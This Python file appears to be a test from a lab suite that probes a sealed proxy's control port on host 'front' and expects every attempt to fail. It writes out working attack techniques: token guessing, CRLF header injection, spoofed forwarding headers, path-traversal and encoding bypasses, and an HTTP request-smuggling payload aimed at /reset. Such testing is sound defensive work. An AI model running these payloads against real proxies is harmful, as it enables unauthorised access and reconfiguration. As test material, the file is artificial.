# tries: gives the sealed proxy orders on its control port, with every token, header and path that may work
# ends: fail objective-missed
# quick: yes
import base64
import json
import os
import socket

from attempts import attempt, later

TOKENS = ["", "null", "None", "undefined", "0", "lab", "token", os.environ.get("BROWNOUT_TOKEN", "?"), "a" * 4096]
WAYS = [
    lambda token: f"authorization: Bearer {token}",
    lambda token: f"authorization: bearer\t{token}",
    lambda token: f"authorization: Basic {base64.b64encode(f'lab:{token}'.encode()).decode()}",
    lambda token: f"authorization: Bearer x\r\nauthorization: Bearer {token}",
    lambda token: (
        f"x-original-url: /version\r\nx-http-method-override: GET\r\nx-forwarded-for: 127.0.0.1\r\na: {token}"
    ),
]
PATHS = ["/proxies/desk", "//proxies/desk", "/version/../proxies/desk", "/proxies%2Fdesk", "/reset", "/version;/reset"]
ORDER = json.dumps({"name": "desk", "enabled": True, "upstream": "desk:9999"})


def told(path, header):
    with socket.create_connection(("front", 8474), timeout=2) as door:
        head = f"POST {path} HTTP/1.1\r\nhost: front\r\nconnection: close\r\n{header}\r\ncontent-length: {len(ORDER)}"
        door.sendall(f"{head}\r\n\r\n{ORDER}".encode())
        return door.recv(64).split(b" ")[1].startswith(b"2")


def smuggled():
    with socket.create_connection(("front", 8474), timeout=2) as door:
        inner = f"POST /reset HTTP/1.1\r\nhost: front\r\ncontent-length: {len(ORDER)}\r\n\r\n{ORDER}"
        head = (
            "GET /version HTTP/1.1\r\nhost: front\r\ntransfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\n"
        )
        door.sendall((head + inner).encode())
        door.settimeout(0.5)
        said = b""
        try:
            while part := door.recv(4096):
                said += part
        except TimeoutError:
            pass
        return said.count(b"HTTP/1.1 2") > 1


def run():
    for path in PATHS:
        for way in WAYS:
            for token in TOKENS:
                header = way(token)
                attempt(f"{path} with {header[:60]!r}", lambda: told(path, header))
    attempt("a second request inside the first", smuggled)


later(run)
